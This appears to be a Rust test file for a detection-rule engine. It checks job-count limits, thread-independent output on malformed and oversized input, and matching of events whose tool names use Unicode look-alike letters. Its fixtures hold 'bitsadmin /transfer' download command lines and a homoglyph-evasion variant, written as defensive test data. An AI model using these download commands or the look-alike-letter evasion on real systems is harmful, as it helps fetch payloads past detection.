//! `rulespec run --jobs`: the output does not depend on the number of threads.

use std::fs;
use std::path::{Path, PathBuf};

use rulespec_testing::files::ROOT;

use super::jobs::{in_folder, output_of, run};

#[test]
fn the_number_of_jobs_is_limited() {
    for jobs in ["0", "257", "999999999999"] {
        let output = run(jobs, &in_folder(&Path::new(ROOT).join("examples/events")));
        assert_eq!(output.status.code(), Some(2), "{jobs}");
        assert!(String::from_utf8_lossy(&output.stderr).contains("1..=256"), "{jobs}: {output:?}");
    }
    assert!(run("256", &in_folder(&Path::new(ROOT).join("examples/events"))).status.success());
}

/// Lines of every kind: events that match or not, invalid JSON, objects over several lines,
/// arrays, and a line that is too long.
fn lines() -> String {
    let row = |name: &str, number: usize| {
        format!(
            r#"{{"Timestamp":"2026-01-02T03:04:05Z","DeviceName":"pc.corp","FileName":"{name}","ProcessId":{number},"ProcessCommandLine":"x /transfer {number} http://files.example/a C:\\a"}}"#
        )
    };
    let mut lines = vec![];
    for number in 0..9_000 {
        lines.push(match number % 450 {
            0 => row("bitsadmin.exe", number),
            7 => "{\"FileName\": ".to_owned(),
            8 => "no json".to_owned(),
            9 => row("bitsadmin.exe", number).replace(',', ",\n"),
            10 => format!("[{},\n{}]", row("bitsadmin.exe", number), row("x.exe", number)),
            11 => "{\"a\": \"\\ud83d\"}".to_owned(),
            12 => String::new(),
            _ => row("svchost.exe", number),
        });
    }
    lines.insert(5_000, format!("{{\"pad\": \"{}\"}}", "x".repeat(3 << 20)));
    lines.join("\n")
}

#[test]
fn tel_75_the_examples_give_the_same_output_with_any_number_of_jobs() {
    let files = in_folder(&Path::new(ROOT).join("examples/events"));
    assert!(files.len() >= 4);
    assert!(!output_of(&files).stdout.is_empty());
    for file in files {
        output_of(&[file]);
    }
}

#[test]
fn tel_75_lines_of_every_kind_give_the_same_output_with_any_number_of_jobs() {
    let folder = tempfile::tempdir().unwrap();
    let file = folder.path().join("lines.jsonl");
    fs::write(&file, lines()).unwrap();
    let output = output_of(std::slice::from_ref(&file));
    assert_eq!(output.stdout.iter().filter(|byte| **byte == b'\n').count(), 60);
    let missing = folder.path().join("missing.jsonl");
    output_of(&[file.clone(), missing, PathBuf::from("README.md"), file]);
}

/// Covers each text format, with the letters as such and as escapes (RUL-30).
#[test]
fn events_with_letters_that_fold_to_those_of_the_rule_are_found() {
    const LINE: &str = r"bitsadmin /Tranſfer j http://files.example/a.bin C:\a.bin";
    let row = serde_json::json!({"ActionType": "ProcessCreated", "DeviceId": "7", "DeviceName": "pc",
        "FileName": "bitſadmin.exe", "ProcessCommandLine": LINE, "ProcessId": 7, "Timestamp": "2026-01-02T03:04:05Z"});
    let csv = "Timestamp,DeviceId,DeviceName,ActionType,FileName,ProcessCommandLine,ProcessId\r\n";
    let event = format!(
        "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System>\
         <Provider Name='Microsoft-Windows-Sysmon'/><EventID>1</EventID></System><EventData>\
         <Data Name='Image'>C:\\BITſADMIN.EXE</Data><Data Name='CommandLine'>{LINE}</Data></EventData></Event>\n"
    );
    let files = [
        ("plain.jsonl", format!("{row}\n")),
        ("escaped.jsonl", format!("{row}\n").replace('ſ', r"\u017f")),
        ("plain.xml", event.clone()),
        ("references.xml", event.replace('ſ', "&#x17F;")),
        ("portal.csv", format!("{csv}2026-01-02T03:04:05Z,7,pc,ProcessCreated,bitſadmin.exe,{LINE},7\r\n")),
    ];
    let folder = tempfile::tempdir().unwrap();
    for (name, text) in files {
        let path = folder.path().join(name);
        fs::write(&path, text).unwrap();
        let output = output_of(&[path]);
        let found: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap_or_default();
        assert_eq!(found["ProcessCommandLine"], LINE, "{name}: {}", String::from_utf8_lossy(&output.stderr));
    }
}
